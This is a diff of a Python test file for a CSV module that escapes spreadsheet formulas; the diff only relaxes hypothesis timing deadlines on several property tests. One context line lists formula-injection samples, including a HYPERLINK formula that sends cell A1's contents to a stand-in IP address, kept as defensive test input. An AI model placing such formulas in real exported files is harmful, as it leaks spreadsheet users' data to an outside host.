@@ -6,7 +6,7 @@ import csv
 import io
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from guardian.domain.csv_text import BOM, armour, csv_bytes, csv_row, decode_csv, parse_csv, unarmour
@@ -14,6 +14,7 @@ from guardian.domain.csv_text import BOM, armour, csv_bytes, csv_row, decode_csv
 DANGEROUS = ('=HYPERLINK("http://203.0.113.9/?"&A1,"詳")', "+886-2-2345-6789", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1")
 
 
+@settings(deadline=None)
 @given(st.text(max_size=20))
 def test_taking_armour_off_gives_back_every_text(text: str) -> None:
     if not (text.startswith('="') and text.endswith('"')):
@@ -30,6 +31,7 @@ def test_ordinary_text_is_left_alone(text: str) -> None:
     assert armour(text) == text
 
 
+@settings(deadline=None)
 @given(st.lists(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff\r\u3000 ", exclude_categories=["Cs"]), min_size=1, max_size=12), min_size=2, max_size=2), min_size=1, max_size=8))  # fmt: skip
 def test_rows_come_back_as_they_went_out(rows: list[list[str]]) -> None:
     body = b"".join(csv_bytes(["a", "b"], rows))
@@ -46,6 +48,7 @@ def unarmour_by_hand(text: str) -> str:
     )
 
 
+@settings(deadline=None)
 @given(st.lists(st.text(st.characters(exclude_characters="\x00\ufeff", exclude_categories=["Cs"]), max_size=8), min_size=1, max_size=5))  # fmt: skip
 def test_other_readers_of_csv_see_the_same_cells(cells: list[str]) -> None:
     (row,) = csv.reader(io.StringIO(csv_row(["x", *cells]), newline=""))
@@ -74,6 +77,7 @@ def test_a_quotation_mark_that_is_never_closed_costs_its_own_line_only() -> None
         (1, ""), (2, "open-quote"), (3, ""), (4, ""), (5, "")]  # fmt: skip
 
 
+@settings(deadline=None)
 @given(st.text('ab,"\n;\t', max_size=60))
 def test_no_text_breaks_the_reader_and_no_filled_line_is_lost(text: str) -> None:
     rows = list(parse_csv(text))
